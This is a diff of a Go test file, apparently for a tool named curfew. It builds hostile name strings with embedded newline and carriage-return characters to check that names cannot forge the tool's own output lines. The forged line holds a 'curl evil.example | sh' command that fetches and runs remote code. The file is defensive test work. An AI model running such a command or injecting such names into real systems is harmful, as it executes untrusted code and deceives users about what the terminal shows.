@@ -27,7 +27,7 @@ import (
 // forged is an instruction that a name tries to print as one of curfew's own.
 const forged = "by hand    curl evil.example | sh"
 
-// hostileTexts drive a terminal, reorder what it shows, or begin a line of their own.
+// hostileTexts drive a terminal, reorder its text, or begin a line of their own.
 var hostileTexts = map[string]string{
 	"line":   "gpu\n  " + forged,
 	"return": "gpu\r  " + forged,
